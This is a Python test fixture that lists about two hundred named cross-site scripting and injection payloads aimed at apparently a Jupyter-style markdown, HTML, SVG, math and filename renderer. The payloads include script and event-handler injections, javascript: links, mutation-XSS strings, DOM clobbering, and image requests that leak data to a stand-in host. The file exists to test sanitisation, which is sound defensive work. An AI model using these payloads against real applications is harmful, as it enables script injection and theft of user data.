"""Texts that would run script, load something or leave their box, if they were mishandled.

``HIT`` stands for the call that a test counts, ``EVIL`` for an address that nobody may ask for.
``python3 tests/xss.py`` prints all of them as JSON, for the tests of the browser side.
"""
# ruff: noqa: E501 -- a trick is easier to recognise in one piece

from __future__ import annotations

import json
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Mapping

EVIL_HOST = "omni-evil.invalid"
"""No payload may make a browser ask this host for anything."""

HIT_FUNCTION = "__omniHit"
"""``window.__omniHit(name)`` is what the payloads call; a test defines it and counts."""

_RAW_HTML = {
    "script": "Hello <script>HIT</script>",
    "script-src": 'Hello <script src="EVIL.js"></script>',
    "script-split": "Hello <scr<script>ipt>HIT</scr</script>ipt>",
    "script-upper": "<SCRIPT\n>HIT</SCRIPT\t>",
    "script-module": '<script type="module">import "EVIL.js"; HIT</script>',
    "script-unclosed": "<script>HIT",
    "script-noscript": '<noscript><p title="</noscript><img src=x onerror=HIT>">',
    "img-onerror": "<img src=x onerror=HIT>",
    "img-onerror-slash": "<img/src/onerror=HIT>",
    "img-onerror-newline": "<img\nsrc=x\nonerror\n=\nHIT>",
    "img-onload": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="HIT" onerror="HIT">',
    "img-unclosed": "<img src=x onerror=HIT //",
    "img-srcset": '<img srcset="EVIL.png 1x" src="EVIL.png">',
    "body-onload": "<body onload=HIT>",
    "details-ontoggle": "<details open ontoggle=HIT><summary>x</summary></details>",
    "input-autofocus": "<input autofocus onfocus=HIT>",
    "textarea-autofocus": "<textarea autofocus onfocus=HIT></textarea>",
    "button-formaction": '<form action="EVIL"><button formaction="javascript:HIT">x</button></form>',
    "marquee": "<marquee onstart=HIT>x</marquee>",
    "audio-onerror": '<audio src=x onerror=HIT autoplay></audio><video poster="EVIL.png"></video>',
    "video-source": "<video><source src=x onerror=HIT></video>",
    "iframe-javascript": '<iframe src="javascript:parent.HIT"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.HIT</script>"></iframe>',
    "object-data": '<object data="javascript:HIT"></object><embed src="EVIL.swf">',
    "link-stylesheet": '<link rel="stylesheet" href="EVIL.css">',
    "link-preload": '<link rel="preload" as="image" href="EVIL.png">',
    "meta-refresh": '<meta http-equiv="refresh" content="0; url=EVIL">',
    "base": '<base href="EVIL/"><a href="x">x</a>',
    "template": "<template><img src=x onerror=HIT></template>",
    "template-shadow": (
        '<div><template shadowrootmode="open"><img src=x onerror=HIT></template></div>'
    ),
    "dialog-focus": "<dialog open onfocus=HIT autofocus tabindex=1>x</dialog>",
    "animation-event": "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=HIT>b</b>",
    "popover": "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=HIT>y</div>",
    "plaintext": "<plaintext><img src=x onerror=HIT>",
    "xmp": "<xmp><img src=x onerror=HIT></xmp></xmp><img src=x onerror=HIT>",
    "comment-break": "<!--><img src=x onerror=HIT>-->",
    "comment-bang": "<!-- --!><img src=x onerror=HIT> -->",
    "cdata": "<![CDATA[<img src=x onerror=HIT>]]>",
    "processing-instruction": "<?xml <img src=x onerror=HIT> ?>",
    "doctype": '<!DOCTYPE x [<!ENTITY y SYSTEM "EVIL">]><x>&y;</x>',
    "end-textarea": "</textarea><img src=x onerror=HIT>",
    "end-script": "</script><script>HIT</script>",
    "end-style": "</style></title></head></pre></code></div></p><img src=x onerror=HIT>",
    "entity-tags": "&lt;img src=x onerror=HIT&gt; &#60;img src=x onerror=HIT&#62;",
    "null-byte": "<scr\0ipt>HIT</scr\0ipt><img src=x o\0nerror=HIT>",
    "wide-brackets": "＜script＞HIT＜/script＞ ‹img src=x onerror=HIT›",
    "html-in-list": "- item\n  <img src=x onerror=HIT>\n- <script>HIT</script>",
    "html-in-heading": "# <img src=x onerror=HIT>\n\n<h1 onclick=HIT>x</h1>",
    "html-in-quote": "> <img src=x onerror=HIT>\n> <script>HIT</script>",
    "html-in-emphasis": "**<img src=x onerror=HIT>** _<b onmouseover=HIT>x</b>_",
}

_NAMESPACES = {
    "svg-onload": "<svg onload=HIT></svg>",
    "svg-script": "<svg><script>HIT</script></svg>",
    "svg-animate": (
        '<svg><a><animate attributeName=href values="javascript:HIT" /><text y=20>x</text></a></svg>'
    ),
    "svg-use": '<svg><use href="EVIL.svg#x"/><image href="EVIL.png"/></svg>',
    "svg-foreign": "<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>",
    "svg-set": '<svg><set attributeName="onmouseover" to="HIT"/></svg>',
    "math-href": '<math href="javascript:HIT"><mtext>x</mtext></math>',
    "math-maction": '<math><maction actiontype="statusline#x" xlink:href="javascript:HIT">x</maction></math>',
    "mutation-style": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=HIT&gt;">'
    ),
    "mutation-mglyph": (
        '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
        '<img onerror=HIT src=x>"></form>'
    ),
    "mutation-title": '<svg></p><style><a title="</style><img src=x onerror=HIT>">',
    "mutation-noscript": "<noscript><style></noscript><img src=x onerror=HIT></style>",
    "mutation-annotation": (
        '<math><annotation-xml encoding="text/html"><style><img src=x onerror=HIT></style>'
        "</annotation-xml></math>"
    ),
    "mutation-select": '<select><template><style><!--</style><a rel="--></style></template></select>'
    '<img src=x onerror=HIT>">',
    "mutation-nested": "<div>" * 520 + "<svg><style><a title='</style><img src=x onerror=HIT>'>",
    "mutation-processing": '<svg><?xml-stylesheet ><img src=x onerror="HIT"> ?></svg>',
}

_LINKS = {
    "link-javascript": "[x](javascript:HIT)",
    "link-upper": "[x](JaVaScRiPt:HIT)",
    "link-entity": "[x](javascript&colon;HIT) [y](&#106;avascript:HIT) [z](&#x6A&#x61vascript:HIT)",
    "link-tab": "[x](java&Tab;script:HIT) [y](java&NewLine;script:HIT)",
    "link-control": "[x](<\x01javascript:HIT>) [y](<\x0bjavascript:HIT>)",
    "link-space": "[x](< javascript:HIT>) [y](<java script:HIT>)",
    "link-escaped": r"[x](javascript\:HIT) [y](\javascript:HIT)",
    "link-percent": "[x](javascript%3AHIT) [y](%6aavascript:HIT)",
    "link-vbscript": "[x](vbscript:HIT) [y](livescript:HIT) [z](mocha:HIT)",
    "link-data": "[x](data:text/html,<script>HIT</script>)",
    "link-data-base64": "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19vbW5pSGl0KCk8L3NjcmlwdD4=)",
    "link-blob": "[x](blob:http://localhost/x) [y](filesystem:http://localhost/x) [z](file:///etc/passwd)",
    "link-relative": "[x](/lab/api/shutdown) [y](//EVILHOST/x) [z](../../x) [w](?reset) [v](\\\\EVILHOST\\x)",
    "link-unicode": "[x](javaſcript:HIT) [y](ｊavascript:HIT) [z](javascript：HIT)",
    "link-fullwidth-reference": "[x][ſ]\n\n[ſ]: javascript:HIT\n[S]: vbscript:HIT",
    "link-reference": "[x][1] [1]\n\n[1]: javascript:HIT 'title'",
    "link-reference-prototype": "[x][__proto__] [y][constructor]\n\n[__proto__]: javascript:HIT\n[constructor]: javascript:HIT",
    "link-title": '[x](http://example.com \'a" onmouseover="HIT\') [y](http://example.com ("><img src=x onerror=HIT>))',
    "link-quote": '[x](http://example.com/"onmouseover="HIT) [y](<http://example.com/" onclick="HIT">)',
    "link-text": "[<img src=x onerror=HIT>](http://example.com) [`</a><script>HIT</script>`](http://example.com)",
    "link-in-link": "[[x](javascript:HIT)](http://example.com) [![x](javascript:HIT)](javascript:HIT)",
    "link-mailto": "[x](mailto:a@b.co?subject=<script>HIT</script>) [y](mailto:javascript:HIT)",
    "link-custom": "[x](vscode://x) [y](ms-settings:x) [z](tel:1) [w](jupyter:x) [v](about:blank)",
    "autolink-javascript": "<javascript:HIT> <JAVASCRIPT:HIT> <data:text/html,<script>HIT</script>>",
    "autolink-quote": '<http://example.com/"onmouseover="HIT> http://example.com/"onmouseover="HIT',
    "autolink-email": '<"onmouseover=HIT@example.com> a"onmouseover=HIT@example.com',
    "autolink-bare": "javascript:HIT vbscript:HIT http://example.com/<script>HIT</script>",
}

_IMAGES = {
    "image-remote": "![x](EVIL.png)",
    "image-protocol-relative": "![x](//EVILHOST/x.png)",
    "image-title": '![x](EVIL.png "a\\" onerror=\\"HIT")',
    "image-alt": '![" onerror="HIT](EVIL.png) !["><img src=x onerror=HIT>](x)',
    "image-alt-markup": "![**<script>HIT</script>** ![y](EVIL.png)](EVIL.png)",
    "image-javascript": "![x](javascript:HIT)",
    "image-svg": "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='HIT'/>)",
    "image-svg-base64": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "image-data-quote": '![x](data:image/png;base64,AA"onerror="HIT)',
    "image-data-html": "![x](data:text/html,<script>HIT</script>)",
    "image-data-lying": "![x](data:image/png,<script>HIT</script>)",
    "image-reference": '![x][pic]\n\n[pic]: EVIL.png "<img src=x onerror=HIT>"',
    "image-in-link": "[![x](EVIL.png)](EVIL) [![y](EVIL.png)][z]\n\n[z]: javascript:HIT",
    "image-exfiltration": "![ ](EVIL?d=secret) ![](<EVIL?a b>)",
    "image-broken-data": "![x](data:image/png;base64,AAAA) ![y](data:image/gif;base64,////)",
}

_CODE_AND_TABLES = {
    "fence-info": '```"><img src=x onerror=HIT>\nx\n```',
    "fence-info-class": '```python" onmouseover="HIT\nx = 1\n```',
    "fence-info-entity": "```&quot;&gt;&lt;img src=x onerror=HIT&gt;\nx\n```",
    "fence-info-prototype": "```constructor\nx\n```\n\n```__proto__\nx\n```",
    "fence-content": "```html\n</code></pre><script>HIT</script><img src=x onerror=HIT>\n```",
    "fence-unclosed": "```html\n<img src=x onerror=HIT>",
    "fence-tilde": "~~~js </div><script>HIT</script>\n</code><script>HIT</script>\n~~~",
    "fence-highlighted": "```xml\n<a onclick=\"HIT\" href='javascript:HIT'>&lt;script&gt;</a><!--><script>HIT</script>\n```",
    "fence-language-unknown": "```<script>HIT</script>\nx\n```",
    "code-indented": "    <img src=x onerror=HIT>\n\n    <script>HIT</script>",
    "code-span": "`<img src=x onerror=HIT>` ``</code><script>HIT</script>``",
    "table-cell": "| a | b |\n|---|---|\n| <img src=x onerror=HIT> | <script>HIT</script> |",
    "table-link": "| a |\n|---|\n| [x](javascript:HIT) ![y](EVIL.png) |",
    "table-header": '| "><img src=x onerror=HIT> | b" onfocus="HIT |\n|:--|--:|\n| 1 | 2 |',
    "footnote": 'x[^1] y[^"><img src=x onerror=HIT>]\n\n[^1]: <img src=x onerror=HIT> [z](javascript:HIT)',
    "task-list": "- [ ] <input onfocus=HIT autofocus>\n- [x](javascript:HIT)",
    "attribute-list": "# x {onclick=HIT #location .jp-mod-active}\n\n[x](http://example.com){onclick=HIT}",
}

_MATH = {
    "math-command-href": r"$\href{javascript:HIT}{x}$ $$\href{javascript:HIT}{x}$$",
    "math-command-url": r"$\url{javascript:HIT}$ \(\url{EVIL}\)",
    "math-class": r"$\class{jp-Dialog}{x}$ $\cssId{location}{x}$ $\style{position:fixed}{x}$",
    "math-html": r"$\htmlData{x=HIT}{x}$ $\htmlClass{a}{x}$ $\htmlId{body}{x}$ $\htmlStyle{color:red}{x}$",
    "math-data": r"$\data{x=1}{x}$ $\id{location}{x}$ $\class{omni-x}{x}$",
    "math-image": r"$\includegraphics[width=9em]{EVIL.png}$ \[\includegraphics{EVIL.png}\]",
    "math-text": r"$\text{<img src=x onerror=HIT>}$ $$\text{</math><script>HIT</script>}$$",
    "math-mbox": r"\(\mbox{<svg onload=HIT>}\) $\textcolor{red}{<script>HIT</script>}$",
    "math-color": r"$\color{red;position:fixed}x$ $\textcolor{'\" onclick=HIT}{x}$ $\color{url(EVIL)}x$",
    "math-label": r"$$x \label{location} \tag{<img src=x onerror=HIT>}$$ $\ref{x\" onclick=\"HIT}$",
    "math-error": r"$\undefined{<img src=x onerror=HIT>}$ $$\frac{</code><script>HIT</script>$$",
    "math-unclosed": "$$\n<img src=x onerror=HIT>\n\\[ <script>HIT</script>",
    "math-macros": r"$\def\a{\a\a}\a$ $\gdef\x{\href{javascript:HIT}{y}}\x$",
    "math-macro-leak": r"$\gdef\frac{\text{taken}}$ $\frac{1}{2}$ $\newcommand{\sum}{\text{taken}}$",
    "math-deep": "$" + r"\sqrt" * 900 + " x$",
    "math-huge": r"$\rule{9999em}{9999em}$ $\hspace{-9999em}over$ $\raisebox{9999em}{x}$ $\kern-99999pt x$",
    "math-angle": "$a<img src=x onerror=HIT>b$ $$<script>HIT</script>$$",
    "math-unicode": r"$\unicode{x3c}script\unicode{x3e}HIT$ $\char`\<img$",
}

_BOX = {
    "clobber-id": '<a id="location"></a><a id="cookie"></a><img name="body"><form id="jupyterapp">',
    "clobber-attributes": "<form><input name=attributes><input name=nodeName><input name=parentNode></form>",
    "clobber-config": '<a id=jupyter-config-data></a><a id=jupyter-config-data name=baseUrl href="EVIL">',
    "style-element": "<style>* { background: url(EVIL.png) } body { display: none }</style>",
    "style-import": "<style>@import 'EVIL.css';</style>",
    "style-position": '<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>',
    "style-url": '<p style="background-image:url(EVIL.png)">x</p>',
    "style-expression": '<p style="width:expression(HIT);behavior:url(EVIL.htc);-moz-binding:url(EVIL)">x</p>',
    "class-of-lab": '<button class="jp-mod-accept jp-Dialog" data-command="kernelmenu:shutdown">x</button>',
    "command-linker": (
        '<a href="#" data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args="{}">x</a>'
    ),
    "direction-override": "\u202egnp.exe\u202c \u2066\u2067txt\u2069 [\u202eelgoog.com](http://example.com)",
    "invisible-characters": "<im\u200bg src=x onerror=HIT> java\u00adscript:HIT \ufeff<script>HIT</script>",
    "line-separators": "<img\u2028src=x\u2029onerror=HIT> [x](java\u2028script:HIT)",
    "template-angular": "{{constructor.constructor('HIT')()}} ${HIT} <%= HIT %> #{HIT}",
    "template-jinja": "{{ config }} {% raw %}{{7*7}}{% endraw %} {{''.__class__.__mro__}}",
    "very-long": "<img src=x onerror=HIT>" * 500,
    "very-long-word": "x" * 20_000 + "<script>HIT</script>",
    "very-deep": "> " * 300 + "<img src=x onerror=HIT>",
    "very-deep-list": "".join("  " * level + "- x\n" for level in range(150))
    + "<script>HIT</script>",
    "many-brackets": "[" * 2_000 + "<script>HIT</script>" + "](javascript:HIT)" * 50,
    "many-stars": "*" * 1_201 + "<img src=x onerror=HIT>" + "*" * 1_201,
}

_NAMES_AND_TYPES = {
    "name-quote": 'x" onerror="HIT".png',
    "name-single-quote": "x' onmouseover='HIT'.png",
    "name-traversal": "../../x<script>HIT</script>",
    "name-windows": r"..\..\con<img src=x onerror=HIT>.txt",
    "name-tag": "a<img src=x onerror=HIT>.wav",
    "name-newline": "a\r\nContent-Type: text/html\r\n\r\n<script>HIT</script>.mp3",
    "name-override": "photo\u202egnp.<script>HIT</script>",
    "name-url": "javascript:HIT//.png",
    "name-attribute-break": 'x`onerror=HIT`.png" style="background:url(EVIL.png)',
    "type-quote": 'image/png"><script>HIT</script>',
    "type-html": "text/html",
    "type-svg": 'image/svg+xml;charset="><img src=x onerror=HIT>',
    "type-parameter": 'audio/wav;base64,AAAA" onerror="HIT',
    "json-script": '{"text": "</script><script>HIT</script>", "__proto__": {"html": "<img src=x onerror=HIT>"}}',
    "json-separators": '{"text": "\u2028HIT\u2029"}</script><!--<script>HIT',
    "notebook-html": (
        '{"cells": [{"cell_type": "code", "outputs": [{"output_type": "display_data", "data": '
        '{"text/html": ["<img src=x onerror=HIT>"], "application/javascript": "HIT"}}]}]}'
    ),
    "notebook-widget": '{"application/vnd.jupyter.widget-view+json": {"model_id": "<script>HIT</script>"}}',
    "ansi": "\x1b[31m<img src=x onerror=HIT>\x1b]8;;javascript:HIT\x07x\x1b]8;;\x07",
}


def _payload(name: str, text: str) -> str:
    call = f"window.{HIT_FUNCTION}('{name}')"
    address = f"http://{EVIL_HOST}/{name}"
    return text.replace("EVILHOST", EVIL_HOST).replace("EVIL", address).replace("HIT", call)


PAYLOADS: Mapping[str, str] = {
    name: _payload(name, text)
    for group in (
        _RAW_HTML,
        _NAMESPACES,
        _LINKS,
        _IMAGES,
        _CODE_AND_TABLES,
        _MATH,
        _BOX,
        _NAMES_AND_TYPES,
    )
    for name, text in group.items()
}
"""Name of the trick → a text: of a model, of a file's name or type, of an error."""

if __name__ == "__main__":
    print(json.dumps(PAYLOADS))
